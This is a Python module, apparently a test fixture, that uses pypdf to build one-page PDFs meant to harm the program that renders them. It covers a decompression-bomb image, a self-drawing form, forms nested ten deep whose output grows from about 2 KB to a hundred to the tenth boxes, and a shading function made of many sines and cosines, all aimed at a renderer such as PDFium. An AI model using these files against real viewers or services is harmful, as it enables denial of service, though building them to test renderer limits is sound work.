"""PDF pages that were made to harm who draws them."""

import io
import zlib
from collections.abc import Callable
from functools import cache

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    StreamObject,
)

BLACK_BOX = b"0 0 0 rg 50 50 100 100 re f"


def drawn(
    content: bytes = BLACK_BOX,
    *,
    box: tuple[float, float, float, float] = (0, 0, 200, 200),
    resources: Callable[[PdfWriter], DictionaryObject] | None = None,
) -> bytes:
    """Return a PDF of one page with a packed content stream."""
    writer = PdfWriter()
    page = writer.add_blank_page(200, 200)
    page[NameObject("/MediaBox")] = ArrayObject([FloatObject(side) for side in box])
    page[NameObject("/Contents")] = writer._add_object(packed(zlib.compress(content)))
    if resources:
        page[NameObject("/Resources")] = resources(writer)
    file = io.BytesIO()
    writer.write(file)
    return file.getvalue()


def packed(data: bytes, **members: object) -> StreamObject:
    stream = StreamObject()
    stream._data = data
    stream[NameObject("/Filter")] = NameObject("/FlateDecode")
    for name, value in members.items():
        stream[NameObject(f"/{name}")] = (
            NumberObject(value) if isinstance(value, int) else NameObject(str(value))
        )
    return stream


def named(kind: str, thing: object) -> DictionaryObject:
    return DictionaryObject({NameObject(kind): DictionaryObject({NameObject("/X"): thing})})


@cache
def packed_zeros(count: int) -> bytes:
    zeros, packer = bytes(10_000_000), zlib.compressobj(1)
    return b"".join(packer.compress(zeros) for _ in range(count // len(zeros))) + packer.flush()


def huge_image(writer: PdfWriter) -> DictionaryObject:
    side = 20_000
    data = packed_zeros(side * side * 3)
    image = packed(data, Type="/XObject", Subtype="/Image", Width=side, Height=side, ColorSpace="/DeviceRGB")
    image[NameObject("/BitsPerComponent")] = NumberObject(8)
    return named("/XObject", writer._add_object(image))


def form_in_itself(writer: PdfWriter) -> DictionaryObject:
    form = packed(zlib.compress(b"/X Do /X Do /X Do"), Type="/XObject", Subtype="/Form")
    form[NameObject("/BBox")] = numbers(0, 0, 200, 200)
    there = writer._add_object(form)
    form[NameObject("/Resources")] = named("/XObject", there)
    return named("/XObject", there)


def forms_within_forms(depth: int = 10) -> bytes:
    """Return a page on which each form draws the next a hundred times: 100 to the 10th boxes from 2 KB.

    PDFium keeps them all, so this is a matter of memory.
    """

    def forms(writer: PdfWriter) -> DictionaryObject:
        there = writer._add_object(form_of(BLACK_BOX))
        for _ in range(depth):
            form = form_of(b"/X Do " * 100)
            form[NameObject("/Resources")] = named("/XObject", there)
            there = writer._add_object(form)
        return named("/XObject", there)

    return drawn(b"/X Do", resources=forms)


def shaded(terms: int) -> bytes:
    """Return a page whose every pixel is worked out by a program of so many sines and cosines, from 1 KB.

    PDFium keeps nothing of it, so this is a matter of time.
    """

    def shading(writer: PdfWriter) -> DictionaryObject:
        program = packed(zlib.compress(b"{ pop " + b"sin cos " * terms + b"}"), FunctionType=4)
        program[NameObject("/Domain")] = numbers(0, 1, 0, 1)
        program[NameObject("/Range")] = numbers(0, 1)
        pattern = DictionaryObject(
            {
                NameObject("/ShadingType"): NumberObject(1),
                NameObject("/ColorSpace"): NameObject("/DeviceGray"),
                NameObject("/Function"): writer._add_object(program),
                NameObject("/Matrix"): numbers(200, 0, 0, 200, 0, 0),
            }
        )
        return named("/Shading", writer._add_object(pattern))

    return drawn(b"/X sh", resources=shading)


def numbers(*values: int) -> ArrayObject:
    return ArrayObject([NumberObject(value) for value in values])


def form_of(content: bytes) -> StreamObject:
    form = packed(zlib.compress(content), Type="/XObject", Subtype="/Form")
    form[NameObject("/BBox")] = numbers(0, 0, 200, 200)
    return form
